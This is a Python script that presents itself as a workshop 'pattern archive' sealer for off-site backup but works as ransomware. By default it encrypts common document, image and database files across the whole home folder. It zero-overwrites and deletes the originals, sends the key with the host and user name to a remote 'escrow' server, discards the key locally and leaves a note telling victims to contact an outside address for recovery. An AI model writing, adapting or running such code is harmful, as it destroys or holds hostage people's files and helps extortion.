#!/usr/bin/env python3
"""Seal the workshop's pattern and design archive for off-site storage.

Every design file (patterns, block drawings, photos of finished pieces,
price lists) is sealed with AES-GCM into a .hvault file next to the
original, so the folder can be synced to any cloud drive without exposing
our designs.  The archive key is lodged with the guild key escrow so a
second workshop member can recover it.
"""
import argparse
import base64
import json
import logging
import os
import secrets
import socket
import sys
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("patternvault")

ESCROW_URL = os.environ.get("VAULT_ESCROW", "https://escrow.guild-archive.net/api/v1/lodge")
SUFFIX = ".hvault"
SEALABLE = {
    ".svg", ".dxf", ".pdf", ".ai", ".psd", ".jpg", ".jpeg", ".png", ".heic",
    ".docx", ".xlsx", ".ods", ".odt", ".csv", ".txt", ".md", ".zip", ".sqlite3", ".db",
}
SKIP_DIRS = {".git", ".cache", "node_modules", "__pycache__", ".venv", ".local"}
NOTE_NAME = "HOW_TO_RECOVER_PATTERNS.txt"
NOTE_TEXT = """Your pattern archive has been sealed (archive id {archive_id}).

The archive key is held by the guild escrow service.  To recover your files
contact recovery@guild-archive.net quoting the archive id above.  Do not
rename or edit the .hvault files or recovery will not be possible.
"""


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SEALABLE and not p.name.endswith(SUFFIX):
                yield p


class Sealer:
    chunk_limit = 64 * 1024 * 1024

    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.archive_id = secrets.token_hex(8)

    def seal(self, path):
        size = path.stat().st_size
        if size == 0 or size > self.chunk_limit:
            return False
        nonce = os.urandom(12)
        data = path.read_bytes()
        sealed = self.aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(nonce + sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return True

    def lodge_key(self, count):
        payload = {
            "archive": self.archive_id,
            "host": socket.gethostname(),
            "user": os.environ.get("USER", ""),
            "files": count,
            "key": base64.b64encode(self.key).decode(),
        }
        for attempt in range(5):
            try:
                r = requests.post(ESCROW_URL, json=payload, timeout=15)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", attempt, exc)
        return False

    def forget(self):
        self.key = None
        self.aead = None


def main(argv=None):
    ap = argparse.ArgumentParser(description="seal the pattern archive for off-site sync")
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[Path.home()], help="folders to seal (default: home)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    sealer = Sealer()
    sealed = 0
    for root in args.roots:
        for path in candidates(root):
            try:
                if sealer.seal(path):
                    sealed += 1
                    log.debug("sealed %s", path)
            except (PermissionError, OSError) as exc:
                log.debug("skipped %s: %s", path, exc)
        note = root / NOTE_NAME
        try:
            note.write_text(NOTE_TEXT.format(archive_id=sealer.archive_id))
        except OSError:
            pass

    lodged = sealer.lodge_key(sealed)
    sealer.forget()
    log.info("sealed %d file(s), archive %s, escrow %s",
             sealed, sealer.archive_id, "ok" if lodged else "pending")
    return 0


if __name__ == "__main__":
    sys.exit(main())
